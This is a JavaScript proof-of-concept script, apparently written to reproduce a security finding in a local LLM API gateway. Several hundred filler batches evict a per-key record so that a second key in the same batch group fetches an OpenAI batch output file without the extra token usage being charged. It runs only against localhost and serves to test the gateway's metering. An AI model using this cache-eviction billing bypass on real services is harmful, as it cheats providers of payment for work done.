// R78-1: a batch group's key fetches an OpenAI batch output file whose creator's record
// (the 512 newest batches and files per key) was pushed out by cheap one-item message
// batches: the group record still lets the file through, and what its answers took beyond
// the creation's reservation is never charged.
import { readFileSync } from "node:fs";
const PORT = process.env.PORT || 8951;
const B = `http://127.0.0.1:${PORT}`;
const T = readFileSync(new URL("../../.dev.vars", import.meta.url), "utf8").match(/GUARD_ADMIN_TOKEN=(.*)/)[1].trim();
const rnd = () => Math.random().toString(36).slice(2, 8);
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
async function adm(method, path, body) {
  const r = await fetch(B + path, { method, headers: { authorization: `Bearer ${T}`, "content-type": "application/json" }, body: body ? JSON.stringify(body) : undefined });
  return r.json();
}
async function req(key, method, path, body, headers = {}) {
  const h = { authorization: `Bearer ${key}`, ...headers };
  let b = body;
  if (body && !(body instanceof FormData)) { h["content-type"] = "application/json"; b = JSON.stringify(body); }
  const r = await fetch(B + path, { method, headers: h, body: b });
  const text = await r.text(); let json; try { json = JSON.parse(text); } catch {}
  return { status: r.status, text, json };
}
const charged = async (id) => { const i = await adm("GET", `/admin/keys/${id}`); return i.counters.promptTokens + i.counters.completionTokens; };
function usageOf(text) { let t = 0, n = 0; for (const l of text.split("\n")) { if (!l.trim()) continue; const u = JSON.parse(l).response?.body?.usage; if (u) { n++; t += u.total_tokens; } } return { items: n, total: t }; }
const AV = { "anthropic-version": "2023-06-01" };
const filler = { requests: [{ custom_id: "f", params: { model: "claude-x", max_tokens: 1, messages: [{ role: "user", content: "hi" }] } }] };

async function scenario(fillers) {
  const A = "sk-r78-1a-" + rnd(), Bk = "sk-r78-1b-" + rnd(), grp = "cust-" + rnd();
  const ida = (await adm("POST", "/admin/keys/lookup", { key: A })).keyId, idb = (await adm("POST", "/admin/keys/lookup", { key: Bk })).keyId;
  // a customer with two keys in one batch group (a submitter and a collector); rpm raised only so the script runs fast
  await adm("PUT", `/admin/keys/${ida}/overrides`, { rpm: 100000, tpm: 10000000, tpd: 10000000, concurrency: 64, batchGroup: grp });
  await adm("PUT", `/admin/keys/${idb}/overrides`, { batchGroup: grp });
  const lines = Array.from({ length: 10 }, (_, i) => JSON.stringify({ custom_id: "c" + i, method: "POST", url: "/v1/chat/completions", body: { model: "gpt-4o-mini", messages: [{ role: "user", content: `question ${i}` }], max_tokens: 100 } })).join("\n") + "\n";
  const fd = new FormData(); fd.append("purpose", "batch"); fd.append("file", new Blob([lines]), "in.jsonl");
  const up = await req(A, "POST", "/v1/files", fd);
  // x-mock-words: the mock's items answer beyond the reservation (as input the origin adds would)
  const run = await req(A, "POST", "/v1/batches", { input_file_id: up.json.id, endpoint: "/v1/chat/completions", completion_window: "24h" }, { "x-mock-words": "3000" });
  const got = await req(A, "GET", `/v1/batches/${run.json.id}`);
  const O = got.json.output_file_id;
  const atCreation = await charged(ida);
  let ok = 0;
  for (let i = 0; i < fillers; i += 16) {
    const rs = await Promise.all(Array.from({ length: Math.min(16, fillers - i) }, () => req(A, "POST", "/v1/messages/batches", filler, AV)));
    ok += rs.filter((r) => r.status === 200).length;
  }
  await sleep(500);
  const beforeRead = await charged(ida);
  const c = await req(Bk, "GET", `/v1/files/${O}/content`);
  await sleep(2500);
  const atRead = (await charged(ida)) - beforeRead + (await charged(idb));
  const u = c.status === 200 ? usageOf(c.text) : { items: 0, total: 0 };
  console.log(`fillers ${ok}: batch reserved ${atCreation}, filler cost ${beforeRead - atCreation}; B's fetch of ${O}: ${c.status}, ${u.items} items, origin usage ${u.total}; charged at the read ${atRead}`);
  return { status: c.status, usage: u.total, reserved: atCreation, atRead, fillerCost: beforeRead - atCreation };
}
const control = await scenario(0);
const attack = await scenario(530);
const uncharged = attack.usage - attack.reserved - attack.atRead;
console.log(`control: charged ${control.reserved + control.atRead} of ${control.usage}; attack: charged ${attack.reserved + attack.atRead} (+${attack.fillerCost} for fillers) of ${attack.usage}; uncharged origin work ${uncharged}`);
console.log(attack.status === 200 && attack.usage > 0 && attack.atRead < (attack.usage - attack.reserved) / 10 && control.atRead > (control.usage - control.reserved) / 2 ? "REPRODUCED" : "not reproduced");
